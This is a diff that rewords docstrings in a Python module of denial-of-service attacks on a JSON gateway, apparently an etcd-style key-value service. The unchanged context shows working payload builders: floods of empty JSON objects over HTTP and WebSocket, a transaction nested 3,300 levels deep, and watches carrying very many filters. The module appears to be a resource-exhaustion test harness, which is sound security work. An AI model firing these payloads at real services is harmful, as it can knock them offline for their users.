@@ -1,4 +1,4 @@
-"""Attacks on the JSON gateway: bodies that are cheap to send and costly to read."""
+"""Attacks on the JSON gateway: bodies that are cheap to send and costly to parse."""
 
 import socket
 import time
@@ -18,7 +18,7 @@ HANDSHAKE = (
 
 
 def _posted(target: Target, path: bytes, body: bytes, deadline: float) -> str:
-    """Post a body and return the status of the answer, if one comes while the attack lasts."""
+    """Post a body and return the answer's status, if an answer comes before the deadline."""
     with connect(target.client, deadline - time.monotonic()) as connection:
         try:
             connection.sendall(request(path, method=b"POST", body=body))
@@ -31,14 +31,14 @@ def _posted(target: Target, path: bytes, body: bytes, deadline: float) -> str:
 
 
 def empty_values(target: Target, count: int, deadline: float) -> Seen:
-    """Post so many empty requests to a watch; none of them has an answer."""
+    """Post `count` empty requests to a watch, which answers none of them."""
     end = min(deadline, time.monotonic() + 3 * target.hold_seconds)
     status = _posted(target, WATCH, b"{}" * count, end)
     return Seen(f"{2 * count:,} bytes: {status}")
 
 
 def empty_values_by_websocket(target: Target, count: int, deadline: float) -> Seen:
-    """Send as many in one message of a WebSocket."""
+    """Send `count` empty requests in one message of a WebSocket."""
     end = min(deadline, time.monotonic() + 3 * target.hold_seconds)
     payload = b"{}" * count
     with connect(target.client, end - time.monotonic()) as connection:
@@ -56,13 +56,13 @@ def empty_values_by_websocket(target: Target, count: int, deadline: float) -> Se
 
 
 def empty_compares(target: Target, count: int, deadline: float) -> Seen:
-    """Post one Txn of so many empty compares."""
+    """Post one Txn with `count` empty compares."""
     body = b'{"compare":[' + b",".join([b"{}"] * count) + b"]}"
     return Seen(f"{len(body):,} bytes: {_posted(target, TXN, body, deadline)}")
 
 
 def nested_txn(target: Target, count: int, deadline: float) -> Seen:
-    """Post one Txn that is nested 3,300 deep around a value of so many bytes."""
+    """Post one Txn nested 3,300 deep around a value of `count` bytes."""
     opening, closing = b'{"success":[{"requestTxn":', b"}]}"
     put = b'{"success":[{"requestPut":{"key":"YQ==","value":"' + b"A" * count + b'"}}]}'
     body = opening * LEVELS + put + closing * LEVELS
@@ -70,7 +70,7 @@ def nested_txn(target: Target, count: int, deadline: float) -> Seen:
 
 
 def many_filters(target: Target, count: int, deadline: float) -> Seen:
-    """Create 30 watches on as many connections, each with so many filters."""
+    """Create 30 watches on as many connections, each with `count` filters."""
     filters = b",".join([b"0"] * count)
     body = b'{"create_request":{"key":"YQ==","filters":[' + filters + b"]}}"
     seen: Counter[str] = Counter()
